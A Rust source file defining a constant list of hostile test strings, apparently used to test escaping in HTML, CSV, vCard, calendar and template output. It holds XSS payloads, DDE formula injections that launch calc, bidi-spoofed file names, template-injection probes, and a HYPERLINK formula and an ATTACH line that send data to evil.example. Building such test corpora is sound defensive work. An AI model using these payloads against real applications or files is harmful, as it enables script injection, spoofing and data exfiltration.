//! Texts that mean harm wherever they are taken for more than text.

pub const HOSTILE: [&str; 44] = [
    // HTML, SVG, and ways out of an attribute.
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "' onfocus='alert(1)' autofocus='",
    "</textarea><iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'><script>1</script></svg>#x\"/></svg>",
    "<!--><script>alert(1)</script-->",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#0; &NotAnEntity;",
    "]]><x>",
    // Addresses.
    "javascript:alert(1)",
    "JaVaScRiPt\u{3a}//%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+",
    "https://example.com@evil.example/%2e%2e/?a=1&b=<2>#f",
    "file:///etc/passwd",
    "mailto:x@y.example?bcc=all@evil.example&body=hi",
    // Styles.
    "red; background: url(https://evil.example/x)",
    "}*{display:none}/*",
    "expression(alert(1))",
    // Direction, invisible characters, marks without end, other lines than ours.
    "Nora \u{202e}tsiuqdniL\u{202c}",
    "\u{2066}gpj.exe\u{2069}",
    "No\u{200b}ra\u{200d}\u{feff}\u{ad}",
    "Z\u{310}\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}a\u{306}\u{307}\u{308}l\u{309}go",
    "one\u{2028}two\u{2029}three\u{85}four",
    "nul\u{0}bell\u{7}escape\u{1b}[2J",
    // Formulas.
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Nora\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\u{ff1d}1+1",
    " \u{a0}=1+1",
    // Cells and rows.
    "a\",\"b\r\n=1+1,\"c",
    "a;b\tc,d'e\"\"f",
    "\"",
    // Cards and calendars.
    "Nora\r\nEMAIL:evil@evil.example\r\nEND:VCARD\r\nBEGIN:VCARD",
    "Nora\nTEL:+1 555 0100\n END:VCARD",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:https://evil.example/x",
    "a\\nb\\,c\\;d\\\\e^nf^'g",
    ";;a,b;c:d=e\"f",
    "🧑🏽‍💻 a very long line indeed, which has to be folded somewhere between characters, never within 🧑🏽‍💻🧑🏽‍💻🧑🏽‍💻",
    // Templates.
    "{{ 7 * 191 }}",
    "{% for x in range(9) %}{{ me }}{% endfor %}",
    "{# gone #}{{ person.emails }}",
    "{%- include \"thank-you\" -%} {{ [].__class__ }}",
];
